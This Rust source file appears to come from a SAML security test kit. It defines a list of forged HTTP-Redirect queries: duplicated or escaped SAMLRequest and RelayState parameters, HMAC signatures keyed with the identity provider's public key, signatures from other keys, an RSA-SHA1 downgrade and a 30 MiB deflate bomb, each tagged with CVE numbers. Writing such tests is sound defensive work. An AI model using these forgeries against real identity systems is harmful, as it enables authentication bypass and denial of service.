//! Attacks on the query of a redirect (SAML bindings, 3.4). The signature covers the text of some parameters. A
//! service that decodes the query with another parser than the one that verified it may use other parameters.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use vouchsafe_crypto::{SignatureAlgorithm, base64_encode};
use vouchsafe_signature::Signer;
use vouchsafe_xml::namespace::{SAML_ASSERTION, SAML_PROTOCOL};

use super::scene::{Played, Scene};
use super::signature::hmac;
use super::step::{Query, Step};
use super::{Attack, Base, Kind};
use crate::deflate::deflated;
use crate::{KeyPair, TestkitError, keys};

const ESCAPED: &str = "CVE-2026-117691 (Keycloak), CVE-2026-134822 (Sustainsys)";
const SECRET: &str = "CVE-2026-15013 (miniOrange)";
const BOMB: &str = "CVE-2026-40988 (Spring Security)";
const STATE: &str = "genuine-state";
const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Played) -> Attack {
    Attack::played(name, Kind::Redirect, description, make)
        .from(Base::Redirect)
        .starting(&[])
        .known_as(ESCAPED)
}

pub(super) const ATTACKS: &[Attack] = &[
    row("redirect/unsigned", "a forged message without SigAlg and Signature", |scene| {
        forged(parameter("SAMLRequest", &encoded(&message(scene, scene.victim()))))
    }),
    row("redirect/no-signature", "a forged message without Signature", |scene| {
        let message = parameter("SAMLRequest", &encoded(&message(scene, scene.victim())));
        forged(format!("{message}&{}", parameter("SigAlg", RSA_SHA256)))
    }),
    row("redirect/empty-signature", "a forged message with an empty Signature", |scene| {
        let message = parameter("SAMLRequest", &encoded(&message(scene, scene.victim())));
        forged(format!("{message}&{}&Signature=", parameter("SigAlg", RSA_SHA256)))
    }),
    row("redirect/exchanged", "the genuine signature over a forged message", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(signed.text.replacen(&signed.value, &forged_value(scene)?, 1))
    }),
    row("redirect/repeated-first", "a forged SAMLRequest before the signed one", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("SAMLRequest={}&{}", forged_value(scene)?, signed.text))
    }),
    row("redirect/repeated-last", "a forged SAMLRequest after the signature", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&SAMLRequest={}", signed.text, forged_value(scene)?))
    }),
    row("redirect/escaped-first", "a forged SAML%52equest before the signed one", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("SAML%52equest={}&{}", forged_value(scene)?, signed.text))
    }),
    row("redirect/escaped-last", "a forged SAML%52equest after the signature", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&SAML%52equest={}", signed.text, forged_value(scene)?))
    }),
    row("redirect/response-beside", "a forged SAMLResponse beside the signed SAMLRequest", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&SAMLResponse={}", signed.text, forged_value(scene)?))
    }),
    row("redirect/response-first", "a forged SAMLResponse before the signed SAMLRequest", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("SAMLResponse={}&{}", forged_value(scene)?, signed.text))
    }),
    row("redirect/question-mark", "a second ? before a forged SAMLRequest", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("?SAMLRequest={}&{}", forged_value(scene)?, signed.text))
    }),
    row(
        "redirect/question-mark-relay-state",
        "a second ? before a RelayState, the signed query has none",
        |scene| {
            let signed = Signed::without_relay_state(scene)?;
            signed.bent(format!("?RelayState=forged-state&{}", signed.text))
        },
    ),
    row("redirect/question-marks", "three ? before a RelayState, the signed query has none", |scene| {
        let signed = Signed::without_relay_state(scene)?;
        signed.bent(format!("???RelayState=forged-state&{}", signed.text))
    }),
    row("redirect/relay-state-added", "a RelayState beside a signed query that has none", |scene| {
        let signed = Signed::without_relay_state(scene)?;
        signed.bent(format!("{}&RelayState=forged-state", signed.text))
    }),
    row(
        "redirect/relay-state-escaped",
        "an escaped Relay%53tate beside a signed query that has none",
        |scene| {
            let signed = Signed::without_relay_state(scene)?;
            signed.bent(format!("{}&Relay%53tate=forged-state", signed.text))
        },
    ),
    row("redirect/relay-state-exchanged", "another RelayState than the signed one", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(signed.text.replace("genuine", "forged"))
    }),
    row("redirect/relay-state-repeated", "another RelayState before the signed one", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("RelayState=forged-state&{}", signed.text))
    }),
    row("redirect/relay-state-repeated-last", "another RelayState after the signature", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&RelayState=forged-state", signed.text))
    }),
    row("redirect/relay-state-removed", "the signed RelayState taken away", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(signed.text.replace(&format!("&{}", parameter("RelayState", STATE)), ""))
    }),
    row("redirect/relay-state-empty", "an empty RelayState beside a signed query that has none", |scene| {
        let signed = Signed::without_relay_state(scene)?;
        signed.bent(format!("{}&RelayState=", signed.text))
    }),
    row("redirect/semicolon", "a forged SAMLRequest behind a semicolon", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{};SAMLRequest={}", signed.text, forged_value(scene)?))
    }),
    row("redirect/array", "a forged SAMLRequest[] beside the signed one", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&SAMLRequest[]={}", signed.text, forged_value(scene)?))
    }),
    row("redirect/lower-case", "a forged samlrequest beside the signed one", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("samlrequest={}&{}", forged_value(scene)?, signed.text))
    }),
    row("redirect/padded-name", "a forged SAMLRequest whose name begins with a plus", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("+SAMLRequest={}&{}", forged_value(scene)?, signed.text))
    }),
    row("redirect/extra", "an unknown parameter beside the signed ones", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&utm_source=x", signed.text))
    }),
    row("redirect/algorithm-repeated", "a second SigAlg of a weak algorithm", |scene| {
        let signed = Signed::of(scene)?;
        let sha1 = parameter("SigAlg", SignatureAlgorithm::RsaSha1.uri());
        signed.bent(format!("{sha1}&{}", signed.text))
    }),
    row("redirect/signature-repeated", "a second Signature, which is empty", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&Signature=", signed.text))
    }),
    row("redirect/encoding", "an unknown SAMLEncoding", |scene| {
        let signed = Signed::of(scene)?;
        signed.bent(format!("{}&SAMLEncoding=urn:example:none", signed.text))
    }),
    row("redirect/hmac-public-key", "HMAC whose secret is the public key, in DER", |scene| {
        let key = certificate(scene).spki_der().to_vec();
        with_secret(scene, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", &key)
    })
    .known_as(SECRET),
    row("redirect/hmac-public-key-pem", "HMAC whose secret is the public key, in PEM", |scene| {
        let pem = scene.target().identity_provider.key().private_key().public_key().to_pem();
        with_secret(scene, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", pem.as_bytes())
    })
    .known_as(SECRET),
    row("redirect/hmac-certificate", "HMAC whose secret is the certificate, in DER", |scene| {
        let certificate = certificate(scene).der().to_vec();
        with_secret(scene, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", &certificate)
    })
    .known_as(SECRET),
    row("redirect/hmac-under-rsa", "the same HMAC under the name of RSA-SHA256", |scene| {
        let key = certificate(scene).spki_der().to_vec();
        with_secret(scene, RSA_SHA256, &key)
    })
    .known_as(SECRET),
    row("redirect/attacker", "signed by the attacker's key", |scene| {
        forged(signed_query(&message(scene, scene.victim()), Some(STATE), keys::attacker())?)
    }),
    row("redirect/other-customer", "signed by the other customer's identity provider", |scene| {
        let other = scene.target().other.key().clone();
        forged(signed_query(&message(scene, scene.victim()), Some(STATE), &other)?)
    }),
    row("redirect/sha1", "the right key with RSA-SHA1", |scene| {
        let message = parameter("SAMLRequest", &encoded(&message(scene, scene.attacker())));
        let algorithm = SignatureAlgorithm::RsaSha1;
        let text = format!("{message}&{}", parameter("SigAlg", algorithm.uri()));
        let key = scene.target().identity_provider.key();
        let value = keys::provider().sign(algorithm, key.private_key(), text.as_bytes())?;
        forged(format!("{text}&{}", parameter("Signature", &base64_encode(&value))))
    }),
    row("redirect/bomb", "a signed message that inflates to 30 MiB of spaces", |scene| {
        let spaces = " ".repeat(30 << 20);
        let message =
            message(scene, scene.attacker()).replace("<saml2:Issuer", &format!("{spaces}<saml2:Issuer"));
        forged(signed_query(&message, None, scene.target().identity_provider.key())?)
    })
    .known_as(BOMB),
];

/// The control: a signed query, unchanged.
pub(super) fn genuine(scene: &Scene<'_>) -> Played {
    let signed = Signed::of(scene)?;
    Ok(vec![Step::Query(Query { text: signed.text.clone(), is_control: true, signed: Some(signed.content) })])
}

/// A query about the attacker that the identity provider signed.
struct Signed {
    text: String,
    /// The value of SAMLRequest in it.
    value: String,
    content: (String, Option<String>),
}

impl Signed {
    fn of(scene: &Scene<'_>) -> Result<Self, TestkitError> {
        Self::with(scene, Some(STATE))
    }

    fn without_relay_state(scene: &Scene<'_>) -> Result<Self, TestkitError> {
        Self::with(scene, None)
    }

    fn with(scene: &Scene<'_>, relay_state: Option<&str>) -> Result<Self, TestkitError> {
        let xml = message(scene, scene.attacker());
        let text = signed_query(&xml, relay_state, scene.target().identity_provider.key())?;
        let value = escaped(&encoded(&xml));
        Ok(Self { text, value, content: (xml, relay_state.map(str::to_owned)) })
    }

    /// Returns another query, in which the service may believe only the signed content.
    fn bent(&self, text: String) -> Played {
        Ok(vec![Step::Query(Query { text, is_control: false, signed: Some(self.content.clone()) })])
    }
}

/// Returns a query in which the service may believe nothing.
fn forged(text: String) -> Played {
    Ok(vec![Step::Query(Query { text, is_control: false, signed: None })])
}

fn with_secret(scene: &Scene<'_>, algorithm: &str, secret: &[u8]) -> Played {
    let message = parameter("SAMLRequest", &encoded(&message(scene, scene.victim())));
    let text = format!("{message}&{}", parameter("SigAlg", algorithm));
    let value = hmac(vouchsafe_crypto::DigestAlgorithm::Sha256, secret, text.as_bytes())?;
    forged(format!("{text}&{}", parameter("Signature", &base64_encode(&value))))
}

fn signed_query(xml: &str, relay_state: Option<&str>, key: &KeyPair) -> Result<String, TestkitError> {
    let mut text = parameter("SAMLRequest", &encoded(xml));
    if let Some(relay_state) = relay_state {
        text = format!("{text}&{}", parameter("RelayState", relay_state));
    }
    let algorithm = Signer::algorithm_for(key.private_key());
    let text = format!("{text}&{}", parameter("SigAlg", algorithm.uri()));
    let value = keys::provider().sign(algorithm, key.private_key(), text.as_bytes())?;
    Ok(format!("{text}&{}", parameter("Signature", &base64_encode(&value))))
}

fn forged_value(scene: &Scene<'_>) -> Result<String, TestkitError> {
    Ok(escaped(&encoded(&message(scene, scene.victim()))))
}

fn encoded(xml: &str) -> String {
    base64_encode(&deflated(xml))
}

fn parameter(name: &str, value: &str) -> String {
    format!("{name}={}", escaped(value))
}

fn escaped(value: &str) -> String {
    utf8_percent_encode(value, NON_ALPHANUMERIC).to_string()
}

fn certificate<'s>(scene: &'s Scene<'_>) -> &'s vouchsafe_crypto::Certificate {
    scene.target().identity_provider.key().certificate()
}

/// Returns a message of the kind that is sent by redirect.
fn message(scene: &Scene<'_>, subject: &str) -> String {
    format!(
        "<saml2p:LogoutRequest xmlns:saml2p=\"{SAML_PROTOCOL}\" xmlns:saml2=\"{SAML_ASSERTION}\" ID=\"{}\" \
         Version=\"2.0\" IssueInstant=\"{}\"><saml2:Issuer>{}</saml2:Issuer><saml2:NameID>{subject}</saml2:NameID>\
         </saml2p:LogoutRequest>",
        scene.response_id(),
        scene.now().format("%Y-%m-%dT%H:%M:%SZ"),
        scene.target().identity_provider.entity_id(),
    )
}
